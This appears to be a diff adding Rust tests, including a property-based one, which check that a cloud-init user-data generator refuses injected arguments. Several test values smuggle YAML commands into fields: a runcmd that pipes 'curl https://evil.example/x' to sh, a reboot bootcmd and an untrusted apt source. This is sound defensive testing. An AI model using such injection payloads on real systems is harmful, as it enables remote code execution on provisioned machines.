@@ -342,3 +342,417 @@ fn appliance_user_data_installs_nothing_and_names_the_api_proxies() {
     let both = inputs.run(&["--provider", "digitalocean", "--appliance"]);
     assert!(!both.status.success(), "{both:?}");
 }
+
+/// An attacker's arguments (a newline that would end the header comment
+/// and start a key, or a second apt source line): refused with exit 2,
+/// naming the argument, and nothing printed.
+#[test]
+fn injected_region_domain_and_apt_url_are_refused_before_anything_is_printed() {
+    let inputs = Inputs::new();
+    let attacks: [(&str, &str, &str); 4] = [
+        (
+            "--region",
+            "fra1\nruncmd: [[sh, -c, \"curl https://evil.example/x|sh\"]]\n#",
+            "--region",
+        ),
+        (
+            "--domain",
+            "nats.example.com\nbootcmd: [[reboot]]",
+            "--domain",
+        ),
+        (
+            "--apt-url",
+            "https://apt.example.com/natsmesh ./\ndeb [trusted=yes] https://evil.example/apt",
+            "--apt-url",
+        ),
+        (
+            "--dns-api-url",
+            "https://egress.example.com/do\n#",
+            "--dns-api-url",
+        ),
+    ];
+    // Every argument the command takes as text, good, as an operator types
+    // them; each attack replaces one.
+    let good = [
+        ("--provider", "digitalocean"),
+        ("--region", "fra1"),
+        ("--domain", "nats.example.com"),
+        ("--roots", "root/root.crt"),
+        ("--intermediate-cert", "inter/fra1.crt"),
+        ("--intermediate-key", "inter/fra1.key"),
+        ("--apt-url", "https://apt.example.com/natsmesh"),
+        ("--apt-key", "key.asc"),
+        ("--dns", "digitalocean"),
+        ("--dns-token", "dns.tok"),
+        ("--dns-api-url", "https://egress.example.com/do"),
+    ];
+    let run = |flag: &str, value: &str| {
+        let mut args = vec!["user-data"];
+        for (f, v) in good {
+            args.extend([f, if f == flag { value } else { v }]);
+        }
+        Command::new(NATSMESHD)
+            .args(&args)
+            .current_dir(inputs.path(""))
+            .output()
+            .unwrap()
+    };
+    let ok = run("", "");
+    assert!(ok.status.success(), "{ok:?}");
+    for (flag, value, named) in attacks
+        .into_iter()
+        .chain([("--region", "../x", "--region")])
+    {
+        let out = run(flag, value);
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{flag}: {out:?}");
+        assert!(out.stdout.is_empty(), "{flag}: printed {out:?}");
+        assert!(err.contains(named), "{flag}: {err}");
+        // The value is quoted, escaped: the refusal is one line.
+        assert_eq!(err.trim_end().lines().count(), 1, "{flag}: {err}");
+    }
+}
+
+mod property {
+    //! Arbitrary strings in every string argument: the command refuses,
+    //! naming the argument, or prints a cloud-config whose shape is exactly
+    //! the expected one and which carries the value unchanged.
+
+    use std::collections::BTreeSet;
+    use std::path::PathBuf;
+
+    use natsmesh::config::schema::RawConfig;
+    use natsmesh::config::units::Size;
+    use natsmesh::user_data::{DnsApi, Request, Target, render};
+    use proptest::collection::vec;
+    use proptest::prelude::*;
+
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    enum Arg {
+        Region,
+        Domain,
+        AptUrl,
+        DnsApiUrl,
+        LbApiUrl,
+        LbId,
+        Name,
+        Nameserver,
+        JetstreamMemory,
+        JetstreamStore,
+    }
+
+    const ARGS: [Arg; 10] = [
+        Arg::Region,
+        Arg::Domain,
+        Arg::AptUrl,
+        Arg::DnsApiUrl,
+        Arg::LbApiUrl,
+        Arg::LbId,
+        Arg::Name,
+        Arg::Nameserver,
+        Arg::JetstreamMemory,
+        Arg::JetstreamStore,
+    ];
+
+    impl Arg {
+        fn flag(self) -> &'static str {
+            match self {
+                Self::Region => "--region",
+                Self::Domain => "--domain",
+                Self::AptUrl => "--apt-url",
+                Self::DnsApiUrl => "--dns-api-url",
+                Self::LbApiUrl => "--lb-api-url",
+                Self::LbId => "--lb-id",
+                Self::Name => "--name",
+                Self::Nameserver => "--nameserver",
+                Self::JetstreamMemory => "--jetstream-memory",
+                Self::JetstreamStore => "--jetstream-store",
+            }
+        }
+
+        /// A value that is accepted, for mixing with hostile pieces.
+        fn good(self) -> &'static str {
+            match self {
+                Self::Region => "fra1",
+                Self::Domain => "nats.example.com",
+                Self::AptUrl => "https://apt.example.com/natsmesh",
+                Self::DnsApiUrl => "https://egress.example.com/do",
+                Self::LbApiUrl => "http://127.0.0.1:8080/lb",
+                Self::LbId => "4de7ac8b-495b-4884-9a69-1050c6793cd6",
+                Self::Name => "node-1",
+                Self::Nameserver => "10.0.0.2:53",
+                Self::JetstreamMemory => "1GiB",
+                Self::JetstreamStore => "10GiB",
+            }
+        }
+    }
+
+    /// The input files, written once (their contents are not under test).
+    fn files() -> &'static (tempfile::TempDir, PathBuf) {
+        static FILES: std::sync::OnceLock<(tempfile::TempDir, PathBuf)> =
+            std::sync::OnceLock::new();
+        FILES.get_or_init(|| {
+            let dir = tempfile::tempdir().unwrap();
+            let p = dir.path().to_path_buf();
+            for (name, text) in [
+                ("roots.pem", "-----BEGIN CERTIFICATE-----\nroots\n-----END CERTIFICATE-----\n"),
+                ("inter.crt", "-----BEGIN CERTIFICATE-----\ninter\n-----END CERTIFICATE-----\n"),
+                ("inter.key", "-----BEGIN PRIVATE KEY-----\nkey\n-----END PRIVATE KEY-----\n"),
+                ("key.asc", "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmDMEZ0test\n-----END PGP PUBLIC KEY BLOCK-----\n"),
+                ("dns.tok", "dns-token\n"),
+                ("lb.tok", "lb-token\n"),
+            ] {
+                std::fs::write(p.join(name), text).unwrap();
+            }
+            (dir, p)
+        })
+    }
+
+    /// A DigitalOcean node with every string argument set, or (for
+    /// `--name`) a NoCloud one; `arg` set to `value`.
+    fn request(arg: Arg, value: &str) -> Request {
+        let p = &files().1;
+        let nocloud = arg == Arg::Name;
+        let mut r = Request {
+            provider: if nocloud {
+                Target::Nocloud
+            } else {
+                Target::Digitalocean
+            },
+            region: Arg::Region.good().into(),
+            domain: Arg::Domain.good().into(),
+            apt_url: Some(Arg::AptUrl.good().into()),
+            apt_key: Some(p.join("key.asc")),
+            appliance: false,
+            roots: p.join("roots.pem"),
+            intermediate_cert: p.join("inter.crt"),
+            intermediate_key: p.join("inter.key"),
+            bootstrap_expect: 3,
+            jetstream_memory: Arg::JetstreamMemory.good().into(),
+            jetstream_store: Arg::JetstreamStore.good().into(),
+            nameservers: vec![Arg::Nameserver.good().into()],
+            dns: (!nocloud).then_some(DnsApi::Digitalocean),
+            dns_token: (!nocloud).then(|| p.join("dns.tok")),
+            dns_api_url: (!nocloud).then(|| Arg::DnsApiUrl.good().into()),
+            lb_id: (!nocloud).then(|| Arg::LbId.good().into()),
+            lb_token: (!nocloud).then(|| p.join("lb.tok")),
+            lb_api_url: (!nocloud).then(|| Arg::LbApiUrl.good().into()),
+            lb_vpc_subnet: None,
+            name: nocloud.then(|| Arg::Name.good().into()),
+            private_address: nocloud.then(|| std::net::Ipv4Addr::new(10, 0, 0, 1)),
+        };
+        let v = value.to_owned();
+        match arg {
+            Arg::Region => r.region = v,
+            Arg::Domain => r.domain = v,
+            Arg::AptUrl => r.apt_url = Some(v),
+            Arg::DnsApiUrl => r.dns_api_url = Some(v),
+            Arg::LbApiUrl => r.lb_api_url = Some(v),
+            Arg::LbId => r.lb_id = Some(v),
+            Arg::Name => r.name = Some(v),
+            Arg::Nameserver => r.nameservers = vec![v],
+            Arg::JetstreamMemory => r.jetstream_memory = v,
+            Arg::JetstreamStore => r.jetstream_store = v,
+        }
+        r
+    }
+
+    /// Pieces an attacker reaches for: line breaks (YAML 1.1's too), the
+    /// comment sign, quotes, YAML indicators, NUL, non-ASCII.
+    fn piece() -> impl Strategy<Value = String> {
+        prop_oneof![
+            prop::sample::select(vec![
+                "\n",
+                "\r\n",
+                "\r",
+                "#",
+                " #",
+                "\"",
+                "'",
+                ": ",
+                "- ",
+                "? ",
+                "{",
+                "}",
+                "[",
+                "]",
+                ",",
+                "&a",
+                "*a",
+                "!!str",
+                "|",
+                ">",
+                "%",
+                "@",
+                "`",
+                "\0",
+                "\t",
+                " ",
+                "\u{85}",
+                "\u{2028}",
+                "\u{feff}",
+                "é",
+                "🦀",
+                ".",
+                "-",
+                "/",
+                ":",
+                "//",
+                "https://",
+                "http://",
+                "file:/",
+                "127.0.0.1",
+                "GiB",
+                "..",
+                "?q",
+                "\nruncmd: [[sh]]\n",
+                "\nbootcmd: [[reboot]]",
+                " ./\ndeb [trusted=yes] https://evil/ ./",
+            ])
+            .prop_map(str::to_owned),
+            "[a-z0-9]{1,8}",
+            any::<char>().prop_map(String::from),
+        ]
+    }
+
+    fn value(arg: Arg) -> impl Strategy<Value = String> {
+        prop_oneof![
+            any::<String>(),
+            vec(piece(), 0..8).prop_map(|v| v.concat()),
+            (vec(piece(), 0..3), vec(piece(), 0..3)).prop_map(move |(a, b)| format!(
+                "{}{}{}",
+                a.concat(),
+                arg.good(),
+                b.concat()
+            )),
+            Just(arg.good().to_owned()),
+        ]
+    }
+
+    fn case() -> impl Strategy<Value = (Arg, String)> {
+        prop::sample::select(ARGS.to_vec()).prop_flat_map(|arg| (Just(arg), value(arg)))
+    }
+
+    fn paths(doc: &serde_norway::Value) -> BTreeSet<String> {
+        doc["write_files"]
+            .as_sequence()
+            .unwrap()
+            .iter()
+            .map(|f| f["path"].as_str().unwrap().to_owned())
+            .collect()
+    }
+
+    fn keys(v: &serde_norway::Value) -> BTreeSet<String> {
+        v.as_mapping()
+            .unwrap()
+            .keys()
+            .map(|k| k.as_str().unwrap().to_owned())
+            .collect()
+    }
+
+    fn set(items: &[&str]) -> BTreeSet<String> {
+        items.iter().map(|s| (*s).to_owned()).collect()
+    }
+
+    /// What an accepted run must have printed.
+    fn accepted(arg: Arg, given: &str, text: &str) {
+        let r = request(arg, given);
+        let nocloud = arg == Arg::Name;
+        // The header: three comment lines, then YAML.
+        let lines: Vec<&str> = text.split('\n').collect();
+        assert_eq!(lines[0], "#cloud-config");
+        assert!(lines[1].starts_with("# natsmesh node of region "), "{text}");
+        assert!(lines[2].starts_with("# It holds secrets"), "{text}");
+        assert!(!lines[3].starts_with('#'), "{text}");
+        let doc: serde_norway::Value = serde_norway::from_str(text).unwrap();
+        assert_eq!(
+            keys(&doc),
+            set(&["write_files", "apt", "package_update", "packages"])
+        );
+        let mut want = vec![
+            "/etc/natsmesh/natsmesh.d/10-node.toml",
+            "/etc/natsmesh/roots.pem",
+            "/etc/natsmesh/credentials/intermediate.crt",
+            "/etc/natsmesh/credentials/intermediate.key",
+        ];
+        if !nocloud {
+            want.extend([
+                "/etc/natsmesh/credentials/dns-token",
+                "/etc/natsmesh/credentials/lb-token",
+            ]);
+        }
+        assert_eq!(paths(&doc), set(&want));
+        // One apt source, one line: exactly the URL given.
+        assert_eq!(keys(&doc["apt"]), set(&["sources"]));
+        assert_eq!(keys(&doc["apt"]["sources"]), set(&["natsmesh.list"]));
+        let source = doc["apt"]["sources"]["natsmesh.list"]["source"]
+            .as_str()
+            .unwrap();
+        let url = r.apt_url.as_deref().unwrap();
+        assert_eq!(source, format!("deb [signed-by=$KEY_FILE] {url} ./"));
+        assert_eq!(source.split(' ').count(), 4, "{source:?}");
+        assert!(!source.chars().any(char::is_control), "{source:?}");
+        // The drop-in: exactly its tables, carrying the values unchanged.
+        let dropin = doc["write_files"][0]["content"].as_str().unwrap();
+        let table: toml::Table = toml::from_str(dropin).unwrap();
+        let mut tables = vec!["node", "tls", "broker", "discovery"];
+        if !nocloud {
+            tables.extend(["dns_publish", "load_balancer"]);
+        }
+        assert_eq!(table.keys().cloned().collect::<BTreeSet<_>>(), set(&tables));
+        let raw: RawConfig = toml::from_str(dropin).unwrap();
+        assert_eq!(raw.node.region.as_deref(), Some(r.region.as_str()));
+        assert_eq!(raw.node.domain.as_deref(), Some(r.domain.as_str()));
+        assert_eq!(raw.node.name, r.name);
+        assert_eq!(raw.discovery.nameservers, r.nameservers);
+        assert_eq!(raw.dns_publish.api_url, r.dns_api_url);
+        assert_eq!(raw.load_balancer.api_url, r.lb_api_url);
+        assert_eq!(raw.load_balancer.id, r.lb_id);
+        assert_eq!(
+            raw.broker.jetstream.max_memory_store,
+            Some(Size::parse(&r.jetstream_memory).unwrap())
+        );
+        assert_eq!(
+            raw.broker.jetstream.max_file_store,
+            Some(Size::parse(&r.jetstream_store).unwrap())
+        );
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2048))]
+
+        #[test]
+        fn every_string_argument_is_refused_by_name_or_serialised_unchanged(
+            (arg, given) in case()
+        ) {
+            match render(&request(arg, &given)) {
+                Ok((text, _)) => accepted(arg, &given, &text),
+                Err(e) => {
+                    let said = e.to_string();
+                    prop_assert_eq!(e.arg(), Some(arg.flag()), "{}", said);
+                    prop_assert!(said.starts_with(arg.flag()), "{}", said);
+                    prop_assert_eq!(e.exit_code(), 2);
+                    // The value is quoted and escaped: one line, always.
+                    prop_assert!(!said.contains('\n') && !said.contains('\r'), "{}", said);
+                }
+            }
+        }
+    }
+
+    /// The good values are accepted (the property's accepting branch is
+    /// not vacuous), and each hostile classic is refused by name.
+    #[test]
+    fn good_values_pass_and_classic_attacks_do_not() {
+        for arg in ARGS {
+            let (text, _) = render(&request(arg, arg.good())).unwrap();
+            accepted(arg, arg.good(), &text);
+            for bad in ["\ny", "#y\u{2028}", "\0", " x", "\u{85}"] {
+                let value = format!("{}{bad}", arg.good());
+                match render(&request(arg, &value)) {
+                    Ok(_) => panic!("{} accepted {value:?}", arg.flag()),
+                    Err(e) => assert_eq!(e.arg(), Some(arg.flag()), "{e}"),
+                }
+            }
+        }
+    }
+}
